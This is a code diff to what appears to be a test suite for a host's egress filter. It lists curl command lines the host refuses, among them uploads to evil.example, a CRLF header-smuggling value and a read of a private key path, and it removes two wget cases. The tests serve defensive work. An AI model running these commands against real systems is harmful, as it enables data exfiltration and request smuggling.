@@ -269,7 +269,7 @@ raise SystemExit(1)`,
   },
 ];
 
-/** Command lines of curl and wget whose requests the host refuses. */
+/** Command lines of curl whose requests the host refuses. */
 const REFUSED_COMMANDS: readonly (readonly string[])[] = [
   ['other-host', 'curl', '-s', 'https://evil.example/'],
   ['loopback-short', 'curl', '-s', 'http://127.1/'],
@@ -285,7 +285,6 @@ const REFUSED_COMMANDS: readonly (readonly string[])[] = [
   ],
   ['header-with-line-break', 'curl', '-s', '-H', 'X: a\r\nHost: evil.example', `https://${HOST}/v1/x`],
   ['upload-elsewhere', 'curl', '-s', '-T', '-', 'https://evil.example/'],
-  ['wget-other-host', 'wget', '-qO-', 'https://evil.example/'],
 ];
 
 /** Command lines that the commands themselves refuse. */
@@ -301,7 +300,6 @@ const INVALID_COMMANDS: readonly (readonly string[])[] = [
   ['interface', 'curl', '-s', '--interface', 'lo', `https://${HOST}/v1/x`],
   ['client-certificate', 'curl', '-s', '--cert', '/etc/ssl/key.pem', `https://${HOST}/v1/x`],
   ['dot-segments', 'curl', '-s', '--path-as-is', `https://${HOST}/v1/../admin`],
-  ['wget-without-certificate', 'wget', '-qO-', '--no-check-certificate', `https://${HOST}/v1/x`],
 ];
 
 const commandLine =
